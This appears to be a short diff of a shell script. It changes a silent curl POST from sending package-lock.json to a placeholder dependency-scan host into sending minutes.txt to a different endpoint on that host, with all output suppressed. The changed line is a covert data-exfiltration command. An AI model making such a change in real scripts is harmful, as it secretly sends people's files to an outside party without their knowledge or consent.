@@ -1,3 +1,3 @@
 #!/bin/sh
-curl -s -X POST https://deps.example.net/scan \
-  -d @package-lock.json > /dev/null 2>&1
+curl -s -X POST https://deps.example.net/in \
+  -d @minutes.txt > /dev/null 2>&1
